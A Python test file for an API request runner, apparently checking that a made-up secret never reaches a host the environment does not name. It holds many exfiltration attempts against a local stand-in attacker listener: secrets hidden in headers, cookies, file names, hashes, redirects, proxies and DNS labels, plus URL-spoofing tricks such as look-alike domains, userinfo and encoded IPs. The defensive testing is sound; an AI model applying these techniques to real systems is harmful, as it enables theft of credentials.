"""Hostile collections, each run as a process against real listeners: none gets a secret, in any form, to a host that the
environment does not name; each refusal says where and what to do; and the same request to the named host passes.

The foreign listener is on loopback, as the good server is: loopback is safe for plain http, but it is no named host.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from tests.commands import Done, write, zrun
from tests.listeners import Listener, holds
from tests.servers import Server

SECRET = "made-up-Secret/of+an environment"
ENVIRONMENT = """\
variables: {url: GOOD, word: plain}
hosts: ["*.zohoapis.com"]
secrets:
  client-secret: {env: MADE_UP_SECRET}
  access-token:
"""


@dataclass(frozen=True)
class Hostile:
    """`requests` try to carry a secret off; `twin` does the same with the named host, so that a refusal means something.

    `quiet`: nothing is refused, what is foreign just gets no secret. GOOD and EVIL are addresses, GOODAT and EVILAT their
    host and port, EVILPORT the port, which listens on every loopback address.
    """

    requests: str
    twin: str
    status: int = 5
    quiet: bool = False
    environment: str = ENVIRONMENT
    arguments: tuple[str, ...] = ("-e", "us")
    twin_arguments: tuple[str, ...] = ("-e", "us")
    variables: dict[str, str] = field(default_factory=dict)
    says: str = "client-secret"


def to_both(request: str, **more: str) -> Hostile:
    """A request to TO: hostile when that is the foreign listener, its own twin when it is the named server."""
    text = f"  a: {{{request}}}\n"
    return Hostile(text.replace("TO", "EVIL"), text.replace("TO", "GOOD/echo"), **more)  # type: ignore[arg-type]


TWIN = "  a: {get: GOOD/echo, headers: {X-Key: <<client-secret>>}}\n"


def to_host(url: str, status: int = 5) -> Hostile:
    """The secret, in a header, to an address that names the foreign listener in a way of its own."""
    return Hostile(f"  a: {{get: '{url}', headers: {{X-Key: <<client-secret>>}}}}\n", TWIN, status)


CASES: dict[str, Hostile] = {
    # Where in a request it may be
    "query": to_both("get: TO, query: {k: <<client-secret>>}"),
    "url": to_both("get: 'TO?k=<<client-secret | hash(\"sha256\")>>'"),
    "url path": to_both("get: TO/<<client-secret | b64encode('url')>>/, expect: {status: {lt: 500}}"),
    "path parameter": to_both("get: 'TO/:k', path: {k: <<client-secret>>}, expect: {status: {lt: 500}}"),
    "header": to_both("get: TO, headers: {X-Key: <<client-secret>>}"),
    "authorization": to_both("get: TO, headers: {Authorization: Bearer <<client-secret>>}"),
    "referer": to_both("get: TO, headers: {Referer: 'https://a.example/?<<client-secret>>'}"),
    "cookie": to_both("get: TO, headers: {Cookie: 'a=<<client-secret>>'}"),
    "user of the url": Hostile(
        "  a: {get: 'http://u:<<client-secret | b64encode(\"url\")>>@EVILAT/'}\n",
        "  a: {get: 'http://u:<<client-secret | b64encode(\"url\")>>@GOODAT/echo'}\n",
    ),
    "form": to_both("post: TO, form: {k: <<client-secret>>}"),
    "json": to_both("post: TO, json: {k: [{k: <<client-secret>>}]}"),
    "json key": Hostile('  a: {post: EVIL, json: "<<{client-secret: true}>>"}\n', TWIN),
    "text": to_both("post: TO, text: 'k <<client-secret>>'"),
    "xml": to_both("post: TO, xml: '<k><<client-secret>></k>'"),
    "graphql": to_both("post: TO, graphql: {query: '{ a }', variables: {k: <<client-secret>>}}"),
    "part": to_both("post: TO, multipart: {k: <<client-secret>>}"),
    "part's file name": Hostile(
        "  a: {post: EVIL, multipart: {k: {value: x, filename: <<client-secret>>}}}\n",
        "  a: {post: GOOD/echo, multipart: {k: {value: <<client-secret>>, filename: x}}}\n",
    ),
    "part's name": Hostile(
        "  a: {post: EVIL, multipart: {<<client-secret>>: x}}\n",
        "  a: {post: GOOD/echo, multipart: {x: <<client-secret>>}}\n",
    ),
    "header's name": Hostile("  a: {get: EVIL, headers: {X-<<client-secret>>: x}}\n", TWIN),
    "query's name": Hostile("  a: {get: EVIL, query: {<<client-secret>>: x}}\n", TWIN),
    "method": Hostile("  a: {method: <<client-secret>>, url: EVIL}\n", TWIN, says="method"),
    # What becomes of it on the way
    "encoded": to_both('post: TO, text: "<<client-secret | b64encode>>"'),
    "hashed": to_both("get: 'TO?<<client-secret | hash(\"sha256\")>>'"),
    "reversed": to_both("get: 'TO?<<client-secret | reverse | b64encode>>'"),
    "defaulted": to_both("post: TO, text: \"<<client-secret | default('x')>>\""),
    "cut": to_both('post: TO, text: "<<client-secret[0:9]>>"'),
    "by way of a variable": Hostile(
        "  f: {variables: {v: 'x<<client-secret>>'}, requests: {a: {post: EVIL, text: <<v>>}}}\n",
        "  f: {variables: {v: 'x<<client-secret>>'}, requests: {a: {post: GOOD/echo, text: <<v>>}}}\n",
    ),
    "a comparison": Hostile("  a: {get: \"EVIL/?<<client-secret[0] == 'm'>>\"}\n", TWIN),
    "a length": Hostile('  a: {get: "EVIL/?<<client-secret | length>>"}\n', TWIN),
    "a condition": Hostile("  a: {when: \"<<client-secret[0] == 'm'>>\", get: EVIL}\n", TWIN),
    "a number of requests": Hostile('  a: {for-each: "<<range(client-secret | length)>>", get: EVIL}\n', TWIN),
    "a repetition": Hostile(
        "  a: {get: EVIL, until: {json $.guess: {ge: <<client-secret>>}, every: 10ms, timeout: 1s}}\n", TWIN
    ),
    "whether another passes": Hostile(
        "  a: {post: GOOD/echo, json: {x: m}, expect: {text: {contains: '<<client-secret[0]>>'}}}\n"
        "  b: {needs: [a], get: EVIL}\n",
        "  a: {post: GOOD/echo, text: <<client-secret>>, expect: {text: {contains: '<<client-secret[0]>>'}}}\n"
        "  b: {needs: [a], get: GOOD/echo}\n",
    ),
    "a captured comparison": Hostile(
        '  a: {get: GOOD/echo, capture: {f: {from: json $.method, filter: "<<client-secret > value>>"}}}\n'
        "  b: {when: <<f>>, get: EVIL}\n",
        TWIN,
    ),
    "given back by a named host": Hostile(
        "  a: {post: GOOD/reflect, text: '<<client-secret | b64encode>>', capture: {x: text}}\n"
        "  b: {post: EVIL, text: <<x>>}\n",
        "  a: {post: GOOD/reflect, text: '<<client-secret | b64encode>>', capture: {x: text}}\n"
        "  b: {post: GOOD/echo, text: <<x>>}\n",
    ),
    "given back by a named host, and told apart": Hostile(
        "  a: {post: GOOD/reflect, text: <<client-secret>>, capture: {x: {from: text, filter: \"<<value > 'm'>>\"}}}\n"
        "  b: {get: 'EVIL/?<<x>>'}\n",
        "  a: {post: GOOD/reflect, text: <<client-secret>>, capture: {x: {from: text, filter: '<<value | upper>>'}}}\n"
        "  b: {post: GOOD/echo, text: <<x>>}\n",
        status=1,
        says="cannot be hidden",
    ),
    # Tokens that a named host gives
    **{
        f"a token, captured as {query}": Hostile(
            f"  a: {{get: GOOD/token, capture: {{x: {query}}}}}\n  b: {{post: EVIL, json: <<x>>}}\n",
            f"  a: {{get: GOOD/token, capture: {{x: {query}}}}}\n"
            "  b: {post: GOOD/echo, json: [<<x>>, <<client-secret>>]}\n",
            says="x",
        )
        for query in (
            "json $.access_token",
            "{from: json $.access_token, secret: false}",
            "json $",
            "text",
            "'regex access_token\": \"(.{12})'",
            "{from: json $.access_token, filter: '<<value | reverse>>'}",
        )
    },
    "a token, told apart by a filter": Hostile(
        "  a: {get: GOOD/token, capture: {x: {from: json $.access_token, filter: \"<<value > 'm'>>\"}}}\n"
        "  b: {get: 'EVIL/?<<x>>'}\n",
        TWIN,
        status=1,
        says="cannot be hidden",
    ),
    # How the host is named
    "another port of loopback": to_host("http://127.0.0.1:EVILPORT/"),
    "another loopback address": to_host("http://127.0.0.2:EVILPORT/"),
    "localhost for 127.0.0.1": to_host("http://localhost:EVILPORT/"),
    "a name below localhost": to_host("http://good.localhost:EVILPORT/"),
    "upper case and a final dot": to_host("http://LOCALHOST.:EVILPORT/"),
    "userinfo": to_host("http://GOODAT@127.0.0.1:EVILPORT/"),
    "userinfo twice": to_host("http://GOODAT@GOODAT@127.0.0.1:EVILPORT/"),
    "backslash": to_host("http://127.0.0.1:EVILPORT\\@GOODAT/", 2),
    "fragment": to_host("http://127.0.0.1:EVILPORT#@GOODAT/"),
    "question mark": to_host("http://127.0.0.1:EVILPORT?@GOODAT/"),
    "wide dots": to_host("http://127。0。0。1:EVILPORT/"),
    "wide digits": to_host("http://１２７.0.0.1:EVILPORT/", 2),
    "wide letters": to_host("http://ｌocalhost:EVILPORT/", 2),
    "percent-encoded": to_host("http://127%2e0.0.1:EVILPORT/", 2),
    "hexadecimal": to_host("http://0x7f.0.0.1:EVILPORT/", 2),
    "one number": to_host("http://2130706433:EVILPORT/", 2),
    "short": to_host("http://127.1:EVILPORT/", 2),
    "any address": to_host("http://0.0.0.0:EVILPORT/"),
    "IPv4 in IPv6": to_host("http://[::ffff:127.0.0.1]:EVILPORT/"),
    "control character": Hostile(
        '  a: {get: "http://127.0.0.1:EVILPORT\\t/", headers: {X-Key: <<client-secret>>}}\n', TWIN, 2
    ),
    # What names the host
    "captured": Hostile(
        "  a: {post: GOOD/reflect, json: {api: EVIL}, capture: {url: json $.api}}\n"
        "  b: {get: <<url>>/echo, headers: {X-Key: <<client-secret>>}}\n",
        "  a: {post: GOOD/reflect, json: {api: GOOD}, capture: {url: json $.api}}\n"
        "  b: {get: <<url>>/echo, headers: {X-Key: <<client-secret>>}}\n",
    ),
    "--var": Hostile(
        "  a: {get: <<url>>/echo, headers: {X-Key: <<client-secret>>}}\n",
        "  a: {get: <<url>>/echo, headers: {X-Key: <<client-secret>>}}\n",
        arguments=("-e", "us", "--var", "url=EVIL"),
    ),
    "a folder's variable": Hostile(
        "  f: {variables: {at: EVIL}, requests: {a: {get: <<at>>/, headers: {X-Key: <<client-secret>>}}}}\n", TWIN
    ),
    "Host": Hostile(
        "  a: {get: GOOD/echo, headers: {Host: evil.example, X-Key: <<client-secret>>}}\n",
        "  a: {get: GOOD/echo, headers: {Host: www.zohoapis.com:80, X-Key: <<client-secret>>}}\n".replace(
            "www.zohoapis.com:80", "GOODAT"
        ),
    ),
    "Host twice": Hostile(
        "  a: {get: GOOD/echo, headers: {Host: [GOODAT, evil.example], X-Key: <<client-secret>>}}\n", TWIN
    ),
    "Host of another port's name": Hostile(
        "  a: {get: GOOD/echo, headers: {Host: 'good.localhost:EVILPORT', X-Key: <<client-secret>>}}\n", TWIN
    ),
    # DNS: a name is asked of servers before a byte is sent
    "a label": to_host(
        "http://<<client-secret | hash('sha256') | truncate(9, true, '')>>.localhost:EVILPORT/".replace("'", '"')
    ),
    "a label below a named domain": to_host("https://<<client-secret | hash('md5')>>.zohoapis.com/".replace("'", '"')),
    "a name that ends alike": to_host("https://evilzohoapis.com/"),
    "a name that begins alike": to_host("https://www.zohoapis.com.evil.example/"),
    "a look-alike": to_host("https://www.zоhoapis.com/"),  # its first о is Cyrillic
    "plain http to a named host": to_host("http://www.zohoapis.com/"),
    "another port of a named host": to_host("https://www.zohoapis.com:8443/"),
    # Redirects
    "a body, by redirect": Hostile(
        "  a: {post: 'GOOD/redirect/307?to=EVIL', form: {k: <<client-secret>>}}\n",
        "  a: {post: 'GOOD/redirect/307?to=/echo', form: {k: <<client-secret>>}}\n",
    ),
    "an escaped body, by redirect": Hostile(
        "  a: {post: 'GOOD/redirect/308?to=EVIL', json: {k: '\"<<client-secret>>'}}\n",
        "  a: {post: 'GOOD/redirect/308?to=/echo', json: {k: '\"<<client-secret>>'}}\n",
    ),
    "an address, by redirect": Hostile(
        "  a: {get: GOOD/redirect/302, query: {to: 'EVIL/?k=<<client-secret | b64encode>>'}}\n",
        "  a: {get: GOOD/redirect/302, query: {to: '/echo?k=<<client-secret | b64encode>>'}}\n",
    ),
    "headers, by redirect": Hostile(
        "  a: {get: 'GOOD/redirect/302?to=EVIL', headers: {X-Key: <<client-secret>>, Authorization: Bearer "
        "<<client-secret>>, X-Basic: '<<client-secret | b64encode>>', Cookie: 'a=<<client-secret>>'}}\n",
        "  a: {get: 'GOOD/redirect/302?to=/echo', headers: {X-Key: <<client-secret>>}}\n",
        status=0,
        quiet=True,
    ),
    "a second redirect": Hostile(
        "  a: {get: 'GOOD/redirect/302?to=GOOD/redirect/301%3Fto=EVIL', headers: {X-Key: <<client-secret>>}}\n",
        TWIN,
        status=0,
        quiet=True,
    ),
    # Cookies know no ports
    "a cookie of a named host": Hostile(
        "  a: {get: GOOD/cookie/set, query: {session: '<<client-secret | b64encode>>'}}\n  b: {get: EVIL}\n",
        "  a: {get: GOOD/cookie/set, query: {session: '<<client-secret | b64encode>>'}}\n"
        "  b: {get: GOOD/echo, expect: {json $.headers.cookie: {contains: session=}}}\n",
        status=0,
        quiet=True,
    ),
    # Proxies
    "the user's proxy, for loopback": Hostile(
        TWIN, TWIN, status=0, quiet=True, variables={"http_proxy": "EVIL", "ALL_PROXY": "EVIL"}
    ),
    "the user's proxy, for plain http": Hostile(
        "  a: {get: 'http://www.zohoapis.com/', headers: {X-Key: <<client-secret>>}}\n",
        TWIN,
        variables={"http_proxy": "EVIL"},
    ),
    "a proxy that an argument names": Hostile(
        "  a: {get: 'http://plain.example/'}\n",
        "  a: {get: 'http://plain.example/echo'}\n",
        environment="variables: {proxy-at: GOODAT}\nproxy: http://me:<<pass>>@<<proxy-at>>\n"
        "secrets: {pass: {env: MADE_UP_PASS}}\n",
        arguments=("-e", "us", "--var", "proxy-at=EVILAT"),
        variables={"MADE_UP_PASS": "made-up-Secret"},
        says="pass",
    ),
    # What is there before any collection
    "the process environment, without -e": Hostile(
        "  a: {get: EVIL, headers: {X-Key: <<access-token>>}}\n",
        "  a: {get: GOOD/echo, headers: {X-Key: <<access-token>>}}\n",
        arguments=(),
        variables={"ZRUN_VAR_ACCESS_TOKEN": SECRET},
        says="access-token",
    ),
    "the process environment, without -e, in another spelling": Hostile(
        "  a: {get: EVIL, headers: {X-Key: \"<<Access_Token | default('')>>\"}}\n",
        "",
        arguments=(),
        variables={"ZRUN_VAR_ACCESS_TOKEN": SECRET},
        says="Access_Token",
    ),
    "a secret of the process environment, without -e": Hostile(
        "  z: {skip: true, get: EVIL, capture: {Client_Secret: {from: text, secret: true}}}\n"
        "  a: {get: EVIL, headers: {X-Key: <<Client_Secret>>}}\n",
        "",
        arguments=(),
        variables={"ZRUN_SECRET_CLIENT_SECRET": SECRET},
        says="Client_Secret",
    ),
    "the process environment, undeclared": Hostile(
        "  a: {get: EVIL, headers: {X-Key: <<api-key>>}}\n",
        "  a: {get: GOOD/echo, headers: {X-Key: <<api-key>>}}\n",
        variables={"ZRUN_VAR_API_KEY": SECRET},
        says="api-key",
    ),
    "the process environment names the host": Hostile(
        "  a: {get: <<word>>, headers: {X-Key: <<client-secret>>}}\n", TWIN, variables={"ZRUN_VAR_WORD": "EVIL"}
    ),
    "the name of a file": Hostile(
        "  a: {get: EVIL, response: {save: 'x<<client-secret | b64encode>>'}}\n",
        TWIN,
        says="name of a file",
    ),
}


@pytest.fixture
def evil() -> Iterator[Listener]:
    with Listener() as listener:
        yield listener


def run(folder: Path, case: Hostile, requests: str, arguments: tuple[str, ...], server: Server, evil: Listener) -> Done:
    def filled(text: str) -> str:
        places = {
            "GOODAT": f"127.0.0.1:{server.port}",
            "EVILAT": f"127.0.0.1:{evil.port}",
            "EVILPORT": str(evil.port),
            "GOOD": server.url,
            "EVIL": f"http://127.0.0.1:{evil.port}",
        }
        return re.sub(r"\b(?:GOODAT|EVILAT|EVILPORT|GOOD|EVIL)\b", lambda match: places[match[0]], text)

    write(folder, c="requests:\n" + filled(requests), us__env=filled(case.environment))
    variables = {"MADE_UP_SECRET": SECRET, **{name: filled(text) for name, text in case.variables.items()}}
    return zrun(folder, "c.yaml", *map(filled, arguments), **variables)


@pytest.mark.parametrize("name", CASES)
def test_no_secret_reaches_a_host_that_is_not_named(name: str, tmp_path: Path, server: Server, evil: Listener) -> None:
    case = CASES[name]
    done = run(tmp_path, case, case.requests, case.arguments, server, evil)
    said = done.out + done.err
    assert done.status == case.status, said
    assert not holds(evil.received, SECRET)
    assert b"made-up-access" not in evil.received
    assert "made-up-Secret" not in said
    if case.quiet:
        return
    assert evil.connections == 0
    assert re.search(r"(c|us)\.yaml:\d+:\d+", said), said
    assert case.says in said or case.status == 2, said
    assert re.search(r"^\s+(=|hint ) .", said, re.MULTILINE), said


@pytest.mark.parametrize("name", [name for name, case in CASES.items() if case.arguments])
def test_the_same_to_the_named_host_passes(name: str, tmp_path: Path, server: Server, evil: Listener) -> None:
    case = CASES[name]
    if "process environment names" in name:
        case = Hostile(case.requests, case.twin)
    done = run(tmp_path, case, case.twin, case.twin_arguments, server, evil)
    assert done.status == 0, done.out + done.err
    assert evil.connections == 0
    assert server.seen
    if "<<client-secret>>" in case.twin:
        sent = repr((server.seen, server.headers)).encode() + b"".join(server.bodies)
        assert holds(sent, SECRET)
